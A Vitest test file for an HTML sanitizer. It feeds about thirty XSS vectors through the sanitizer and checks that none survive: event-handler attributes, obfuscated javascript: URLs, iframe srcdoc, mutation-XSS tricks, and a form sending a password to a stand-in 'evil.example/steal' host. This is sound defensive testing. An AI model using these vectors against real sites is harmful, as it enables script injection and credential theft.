import { describe, expect, it } from 'vitest';
import { sanitizeHtml } from '#src/shared/lib/sanitize-html';

/** The sanitized HTML as a document fragment, to ask what is left in it. */
function parse(html: string): HTMLTemplateElement['content'] {
  const template = document.createElement('template');
  template.innerHTML = sanitizeHtml(html);
  return template.content;
}

/** Every way left for a script to run: script-bearing elements, on* attributes, script URLs, styles. */
function liveCode(fragment: DocumentFragment): string[] {
  const found: string[] = [];
  for (const el of fragment.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    if (
      [
        'script',
        'iframe',
        'frame',
        'object',
        'embed',
        'svg',
        'math',
        'form',
        'input',
        'button',
        'textarea',
        'select',
        'meta',
        'link',
        'base',
        'style',
      ].includes(tag)
    ) {
      found.push(`<${tag}>`);
    }
    for (const attr of el.attributes) {
      // biome-ignore lint/suspicious/noControlCharactersInRegex: browsers ignore control characters in URLs; so must the check
      const value = attr.value.replace(/[\s\u0000-\u001f]/g, '').toLowerCase();
      if (attr.name.startsWith('on')) found.push(`${tag}[${attr.name}]`);
      if (attr.name === 'style') found.push(`${tag}[style]`);
      if (
        ['href', 'src', 'action', 'formaction', 'xlink:href', 'data'].includes(attr.name) &&
        /^(javascript|vbscript|data):/.test(value) &&
        !(tag === 'img' && attr.name === 'src' && value.startsWith('data:image/'))
      ) {
        found.push(`${tag}[${attr.name}=${attr.value}]`);
      }
    }
  }
  return found;
}

describe('sanitizeHtml', () => {
  it.each([
    ['script tag', '<p>a</p><script>window.__xss = 1</script>'],
    ['script tag in upper case', '<SCRIPT>window.__xss = 1</SCRIPT>'],
    ['img onerror', '<img src="x" onerror="window.__xss = 1">'],
    ['img onerror without quotes', '<img src=x onerror=window.__xss=1>'],
    ['svg onload', '<svg onload="window.__xss = 1"><circle r="4"></circle></svg>'],
    ['svg with a script inside', '<svg><script>window.__xss = 1</script></svg>'],
    ['javascript: href', '<a href="javascript:window.__xss = 1">x</a>'],
    ['javascript: href in mixed case', '<a href="JaVaScRiPt:window.__xss = 1">x</a>'],
    ['javascript: href with entities', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1">x</a>'],
    ['javascript: href with hex entities and a tab', '<a href="java&#x09;script&#x3A;window.__xss=1">x</a>'],
    ['javascript: href with leading spaces', '<a href="  javascript:window.__xss=1">x</a>'],
    ['vbscript: href', '<a href="vbscript:msgbox(1)">x</a>'],
    ['data: URL in href', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
    ['iframe', '<iframe src="https://evil.example"></iframe>'],
    ['iframe with a javascript: src', '<iframe src="javascript:window.__xss = 1"></iframe>'],
    ['iframe with srcdoc', '<iframe srcdoc="<script>window.__xss = 1</script>"></iframe>'],
    ['form and input', '<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>'],
    ['button formaction', '<button formaction="javascript:window.__xss = 1">x</button>'],
    ['object', '<object data="https://evil.example/x.swf"></object>'],
    ['embed', '<embed src="https://evil.example/x.swf">'],
    ['style attribute', '<div style="background:url(javascript:window.__xss = 1)">x</div>'],
    ['style element', '<style>body { display: none }</style><p>x</p>'],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:window.__xss = 1">'],
    ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
    ['base href', '<base href="https://evil.example/">'],
    ['div onclick', '<div onclick="window.__xss = 1">tap</div>'],
    ['details ontoggle', '<details open ontoggle="window.__xss = 1"><summary>x</summary></details>'],
    ['body onload', '<body onload="window.__xss = 1">'],
    ['mathml mutation', '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>'],
    ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">'],
  ])('leaves nothing alive of: %s', (_name, html) => {
    expect(liveCode(parse(html))).toEqual([]);
  });

  it('keeps the text around a removed payload', () => {
    expect(parse('<p>Harmless text survives.</p><script>window.__xss = 1</script>').textContent).toBe('Harmless text survives.');
  });

  it.each([
    ['an image', '<img src="/cdn/a/banners/promo-banner-1.svg" alt="Welcome">', 'img[src="/cdn/a/banners/promo-banner-1.svg"][alt="Welcome"]'],
    ['a table', '<table><thead><tr><th>Deposit</th></tr></thead><tbody><tr><td>100</td></tr></tbody></table>', 'table thead th, table tbody td'],
    ['an app link', '<a href="/m/vip">VIP club rules</a>', 'a[href="/m/vip"]'],
    ['an https link', '<a href="https://example.com/terms">terms</a>', 'a[href="https://example.com/terms"]'],
    ['a mailto link', '<a href="mailto:help@example.com">mail us</a>', 'a[href="mailto:help@example.com"]'],
    ['lists and emphasis', '<ol><li><strong>One</strong></li></ol><ul><li><em>Two</em></li></ul>', 'ol li strong, ul li em'],
  ])('keeps %s', (_name, html, selector) => {
    expect(parse(html).querySelector(selector)).not.toBeNull();
  });

  it('a link that opens a new tab keeps it, and cannot reach back to the app', () => {
    const link = parse('<a href="https://example.com/terms" target="_blank" rel="opener">terms</a>').querySelector('a');
    expect(link?.getAttribute('target')).toBe('_blank');
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('a link may not target another named window or frame', () => {
    const link = parse('<a href="https://example.com" target="_top">x</a>').querySelector('a');
    expect(link?.hasAttribute('target')).toBe(false);
  });
});
